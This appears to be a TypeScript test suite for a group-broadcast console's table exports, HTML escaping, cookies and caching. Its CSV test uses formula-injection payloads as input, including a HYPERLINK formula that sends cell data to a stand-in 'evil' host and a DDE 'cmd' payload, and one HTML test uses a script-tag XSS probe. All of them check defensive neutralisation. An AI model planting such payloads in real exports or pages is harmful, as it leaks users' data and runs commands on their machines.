import ExcelJS from 'exceljs'
import { clearedCookie, readCookie, sessionCookie } from '../../src/http/cookies'
import { toCsv, toXlsx } from '../../src/http/export-table'
import { esc, sparkline } from '../../src/http/html'
import { tableHtml, type DataTable } from '../../src/http/table'
import { deliveredNames } from '../../src/http/console-data'
import { freshValue } from '../../src/http/fresh-value'
import type { BroadcastCounts, BroadcastRecord } from '../../src/store/broadcast-store'

const table: DataTable = {
  name: 'groups',
  title: '群组',
  columns: [
    { key: 'name', label: '群名' },
    { key: 'members', label: '人数', numeric: true },
  ],
  rows: [
    { name: '北京1群, "读书会"', members: 12 },
    { name: '<script>alert(1)</script>', members: 3 },
  ],
}

describe('console tables, exports and cookies', () => {
  it('writes CSV with a BOM, Chinese headers and every text cell quoted', () => {
    expect(toCsv(table)).toBe('\ufeff"群名","人数"\r\n"北京1群, ""读书会""",12\r\n"<script>alert(1)</script>",3\r\n')
  })

  it('neutralises CSV cells a spreadsheet would read as a formula (a leading apostrophe), and keeps numbers numbers', () => {
    const hostile: DataTable = {
      name: 'cases',
      title: '记录',
      columns: [
        { key: 'text', label: '内容' },
        { key: 'n', label: '数', numeric: true },
      ],
      rows: [
        { text: '=HYPERLINK("http://evil/?"&A1,"点我")', n: -3 },
        { text: "+1+cmd|' /C calc'!A0", n: 0 },
        { text: '-2+3', n: 1.5 },
        { text: '@SUM(1,2)', n: 7 },
        { text: '\t=1+1', n: 7 },
        { text: '\r=1+1', n: 7 },
        { text: '  =1+1', n: 7 },
        { text: '\n=1+1', n: 7 },
        { text: '\u3000＝1+1', n: 7 },
        { text: '-3', n: 7 },
        { text: 'a;=1+1', n: 7 },
        { text: '一切正常 =1+1', n: 7 },
        { text: '', n: 7 },
      ],
    }
    const lines = toCsv(hostile).slice(1).split('\r\n')
    expect(lines.slice(1, -1)).toEqual([
      `"'=HYPERLINK(""http://evil/?""&A1,""点我"")",-3`,
      `"'+1+cmd|' /C calc'!A0",0`,
      `"'-2+3",1.5`,
      `"'@SUM(1,2)",7`,
      `"'\t=1+1",7`,
      `"'\r=1+1",7`,
      `"'  =1+1",7`,
      `"'\n=1+1",7`,
      `"'\u3000＝1+1",7`,
      // text that looks like a number is text: a member's message "-3" is not a number column
      `"'-3",7`,
      // quoted, so a spreadsheet splitting on ";" (some locales) cannot make "=1+1" a cell of its own
      `"a;=1+1",7`,
      `"一切正常 =1+1",7`,
      `"",7`,
    ])
  })

  it('writes an .xlsx that reads back with its headers and numbers', async () => {
    const book = new ExcelJS.Workbook()
    await book.xlsx.load((await toXlsx(table)) as unknown as ArrayBuffer)
    const sheet = book.worksheets[0]!
    expect(sheet.name).toBe('群组')
    expect(sheet.getRow(1).values).toEqual([undefined, '群名', '人数'])
    expect(sheet.getRow(2).values).toEqual([undefined, '北京1群, "读书会"', 12])
  })

  it('escapes every cell and keeps the raw value for sorting', () => {
    const html = tableHtml(table)
    expect(html).not.toContain('<script>')
    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;')
    expect(html).toContain('<th data-key="members" data-numeric="1">人数</th>')
    expect(esc(`"'&`)).toBe('&quot;&#39;&amp;')
  })

  it('draws a sparkline with one point per day', () => {
    expect(sparkline([0, 5, 10]).match(/points="([^"]+)"/)?.[1]?.split(' ')).toHaveLength(3)
  })

  it('reads the session cookie among others and writes it HttpOnly, SameSite, Path=/', () => {
    expect(readCookie('a=1; qunhq_session=abc%2Bd; b=2', 'qunhq_session')).toBe('abc+d')
    expect(readCookie('qunhq_session_x=1', 'qunhq_session')).toBeUndefined()
    expect(readCookie(undefined, 'qunhq_session')).toBeUndefined()
    expect(sessionCookie('s', 'v', { maxAgeS: 60, secure: false })).toBe('s=v; Path=/; HttpOnly; SameSite=Lax; Max-Age=60')
    expect(sessionCookie('s', 'v', { maxAgeS: 60, secure: true })).toMatch(/; Secure$/)
    expect(clearedCookie('s')).toMatch(/Max-Age=0/)
  })

  it('reuses a value while it is younger than the limit, shares a load in progress, and never reuses with a limit of 0', async () => {
    let now = 1_000
    let loads = 0
    let limit = 10_000
    let release: (() => void) | undefined
    const get = freshValue(
      async () => {
        loads++
        await new Promise<void>((r) => (release = r))
        return `v${loads}`
      },
      () => limit,
      () => now,
    )
    const a = get()
    const b = get()
    release!()
    expect([await a, await b]).toEqual([{ at: 1_000, value: 'v1' }, { at: 1_000, value: 'v1' }])
    now += 9_999
    expect(await get()).toEqual({ at: 1_000, value: 'v1' })
    now += 1
    const c = get()
    release!()
    expect(await c).toEqual({ at: 11_000, value: 'v2' })
    limit = 0
    const d = get()
    release!()
    expect((await d).value).toBe('v3')
    expect(loads).toBe(3)
  })

  it('names delivered groups from the recorded rooms, in the broadcast\'s order; a broadcast recorded before that by elimination once complete, else its count', () => {
    const record = { rooms: [{ roomId: 'r1', topic: '北京1群' }, { roomId: 'r2', topic: '北京2群' }, { roomId: 'r3', topic: '上海1群' }] } as BroadcastRecord
    const counts = (c: Partial<BroadcastCounts>): BroadcastCounts => ({ total: 3, sent: 0, failed: 0, uncertain: 0, skipped: 0, done: 0, ...c })
    expect(deliveredNames(record, ['r3', 'r1'], [], counts({ sent: 2, done: 2 }))).toEqual(['北京1群', '上海1群'])
    expect(deliveredNames(record, ['gone'], [], counts({ sent: 1, done: 1 }))).toEqual(['gone'])
    expect(deliveredNames(record, [], [], counts({}))).toEqual([])
    expect(deliveredNames(record, [], ['r2'], counts({ sent: 2, failed: 1, done: 3 }))).toEqual(['北京1群', '上海1群'])
    expect(deliveredNames(record, [], [], counts({ sent: 1, done: 1 }))).toEqual(['1'])
  })
})
